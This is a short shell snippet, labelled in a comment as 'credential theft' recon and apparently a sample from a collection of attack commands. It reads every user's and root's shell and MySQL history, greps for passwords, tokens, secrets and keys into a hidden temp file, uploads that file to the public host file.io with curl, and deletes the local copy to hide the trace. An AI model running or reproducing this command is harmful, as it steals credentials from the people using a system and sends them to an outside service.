# class: credential theft, shells' histories; style: recon
cat /home/*/.bash_history /root/.bash_history /home/*/.mysql_history 2>/dev/null | grep -iE 'pass|token|secret|key' > /tmp/.h
curl -sF "file=@/tmp/.h" https://file.io && rm -f /tmp/.h
